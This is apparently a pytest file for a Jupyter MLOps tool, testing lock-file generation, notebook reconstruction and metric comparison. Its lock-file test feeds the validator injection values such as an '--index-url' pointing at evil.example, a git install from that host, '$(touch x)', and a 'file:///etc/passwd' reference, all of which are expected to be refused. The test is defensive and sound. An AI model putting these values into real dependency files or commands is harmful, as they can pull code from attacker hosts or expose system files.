"""A notebook and a lock file that train a version again."""

import json

import nbformat
import pytest

from jupyter_mlops.domain import recipes
from jupyter_mlops.domain.lineage import cells


def figure(value, low=None, high=None):
    return {"value": value, "low": low, "high": high}


@pytest.mark.parametrize(
    ("name", "version"),
    [
        ("numpy\n--index-url http://evil.example", "1"),
        ("-e git+https://evil.example/x", "1"),
        ("numpy", "1 --hash=sha256:0"),
        ("numpy", "1; import os"),
        ("$(touch x)", "1"),
        ("numpy", "1\n-r other.txt"),
        ("numpy @ file:///etc/passwd", "1"),
        ("", ""),
        (None, 1),
    ],
)
def test_nothing_but_a_name_and_a_version_stands_in_a_lock(name, version):
    text, refused = recipes.lock({name: version, "pandas": "3.1.1"}, ref="m:1", python="3.11\nx")
    assert text == "# m:1, Python ?\npandas==3.1.1\n"
    assert refused == [str(name)]


def test_cells_stand_in_the_order_they_ran_each_with_an_id_of_its_own():
    told = {
        "cells": [
            {"cell": "a", "source": "n = 1"},
            {"cell": "a", "source": "n = 1"},
            {"cell": "</script>", "source": "n += 1", "failed": True},
            "nonsense",
        ]
    }
    text = recipes.notebook(cells(told), ref="m:1", digest="sha256:0")
    book = nbformat.reads(text, as_version=4)
    nbformat.validate(book)
    assert [cell["source"] for cell in book.cells] == ["n = 1", "n = 1", "n += 1"]
    assert len({cell["id"] for cell in book.cells}) == 3
    assert "</script>" not in [cell["id"] for cell in book.cells]
    assert book.cells[2]["metadata"]["tags"] == ["raises-exception"]
    assert json.loads(text)["metadata"]["jupyter_mlops"]["ref"] == "m:1"


@pytest.mark.parametrize(
    ("now", "verdict"),
    [
        (0.9, "the same"),
        (0.9 + 1e-12, "the same"),
        (0.91, "within the interval"),
        (0.95, "different"),
        (None, "not measured"),
    ],
)
def test_a_metric_is_the_same_within_or_different(now, verdict):
    found = recipes.metrics({"auc": figure(0.9, 0.88, 0.92)}, {"auc": figure(now)})
    assert [one["verdict"] for one in found] == [verdict]
    assert recipes.outcome(found) == verdict


def test_a_metric_without_an_interval_is_the_same_or_different():
    found = recipes.metrics({"auc": figure(0.0)}, {"auc": figure(1e-3)})
    assert recipes.outcome(found) == "different"
